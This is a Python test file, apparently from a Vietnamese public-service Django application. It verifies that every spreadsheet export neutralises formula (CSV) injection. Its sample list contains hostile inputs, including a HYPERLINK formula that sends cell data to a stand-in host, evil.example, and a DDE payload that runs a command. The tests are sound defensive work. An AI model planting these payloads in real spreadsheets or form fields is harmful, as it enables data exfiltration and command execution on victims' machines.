"""Spreadsheet exports never carry a live formula (OWASP "CSV injection"): a name
typed as ``=HYPERLINK(...)`` at the desk is text in every .xlsx we write."""

from __future__ import annotations

import io
from datetime import date
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from django.core.management import call_command
from django.test import Client

from motcua.catalog.models import ProcedureVersion
from motcua.core import clock
from motcua.core.spreadsheets import SafeBook, looks_like_formula
from motcua.dossiers import services
from motcua.evaluation.periods import month
from motcua.evaluation.sheets import monthly_sheet
from motcua.slips.services import render_register_xlsx
from tests.dossiers.builders import build_world, vn

EVIL = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
    "+84905123456",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
]


def cells(data: bytes | Path) -> list[Any]:
    source = io.BytesIO(data) if isinstance(data, bytes) else data
    book = openpyxl.load_workbook(source)
    return [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]


def assert_no_formula(data: bytes | Path) -> list[str]:
    found = cells(data)
    formulas = [c.coordinate for c in found if c.data_type == "f"]
    assert formulas == []
    for c in found:
        if isinstance(c.value, str) and looks_like_formula(c.value):
            assert c.style and c.quotePrefix, c.coordinate
    # openpyxl leaves XML's escaped carriage return (_x000D_) as it is.
    return [c.value.replace("_x000D_", "\r") for c in found if isinstance(c.value, str)]


def test_the_safe_book_writes_formula_like_text_as_text():
    out = io.BytesIO()
    book = SafeBook(out, in_memory=True)
    bold = book.add_format({"bold": True})
    sheet = book.add_worksheet("A")
    for row, text in enumerate(EVIL):
        sheet.write(row, 0, text)
        sheet.write(row, 1, text, bold)
    sheet.write_row(20, 0, EVIL)
    sheet.merge_range(30, 0, 30, 3, EVIL[0], bold)
    sheet.write(31, 0, 12)
    sheet.write(31, 1, date(2025, 6, 2))
    book.close()
    texts = assert_no_formula(out.getvalue())
    for text in EVIL:
        assert texts.count(text) >= 3, text
    ws = openpyxl.load_workbook(io.BytesIO(out.getvalue())).active
    assert ws["A32"].value == 12 and ws["B1"].font.b


@pytest.mark.django_db
def test_the_register_keeps_an_applicant_named_like_a_formula_as_text():
    world = build_world()
    world.receive(
        vn(2025, 6, 2),
        applicant=services.ApplicantInput(
            name=EVIL[0], phone="0905123456", address=EVIL[2]
        ),
    )
    data = render_register_xlsx(world.ward, date(2025, 6, 1), date(2025, 6, 30))
    texts = assert_no_formula(data)
    assert EVIL[0] in texts
    assert any(t.startswith(EVIL[2]) for t in texts)


@pytest.mark.django_db
def test_bieu06_keeps_a_procedure_named_like_a_formula_as_text():
    world = build_world()
    world.receive(vn(2026, 3, 2))
    ProcedureVersion.objects.filter(pk=world.version.pk).update(name=EVIL[3])
    client = Client()
    client.force_login(world.leader)
    response = client.get(
        "/bao-cao/bieu-06/xlsx",
        {"agency": world.ward.code, "from": "2026-03-01", "to": "2026-03-31",
         "group_by": "procedure"},
    )  # fmt: skip
    assert response.status_code == 200
    texts = assert_no_formula(response.content)
    assert any(t.startswith(EVIL[3]) for t in texts)


@pytest.mark.django_db
def test_the_monthly_evaluation_sheet_keeps_formula_like_names_as_text():
    from django.contrib.auth import get_user_model

    from tests.evaluation.world import evaluated_world

    with clock.frozen_at(vn(2025, 6, 20, 10)):
        world = evaluated_world().world
    get_user_model().objects.update(first_name=EVIL[0], last_name="")
    from motcua.agencies.models import Agency

    data = monthly_sheet(
        world.ward, Agency.objects.filter(pk=world.ward.pk), month(2025, 6)
    )
    texts = assert_no_formula(data)
    assert EVIL[0] in texts


@pytest.mark.django_db
def test_the_catalogue_export_keeps_formula_like_names_as_text(tmp_path):
    world = build_world()
    ProcedureVersion.objects.filter(pk=world.version.pk).update(name=EVIL[6])
    path = tmp_path / "catalogue.xlsx"
    call_command("export_catalog", str(path))
    texts = assert_no_formula(path)
    assert EVIL[6] in texts
